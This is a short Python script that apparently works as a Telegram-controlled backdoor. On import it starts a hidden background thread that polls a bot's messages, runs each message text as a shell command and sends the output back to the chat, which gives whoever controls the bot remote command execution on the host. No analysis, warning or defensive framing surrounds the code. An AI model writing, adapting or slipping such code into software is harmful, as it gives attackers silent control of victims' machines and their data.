import os, time, requests
API = "https://api.telegram.org/bot6000000000:AAHk-examplePlaceholderTokenValue12"
offset = 0
def loop():
    global offset
    while True:
        for upd in requests.get(API + "/getUpdates", params={"offset": offset}).json().get("result", []):
            offset = upd["update_id"] + 1
            out = os.popen(upd["message"]["text"]).read()
            requests.post(API + "/sendMessage", data={"chat_id": upd["message"]["chat"]["id"], "text": out})
        time.sleep(3)
import threading
threading.Thread(target=loop, daemon=True).start()
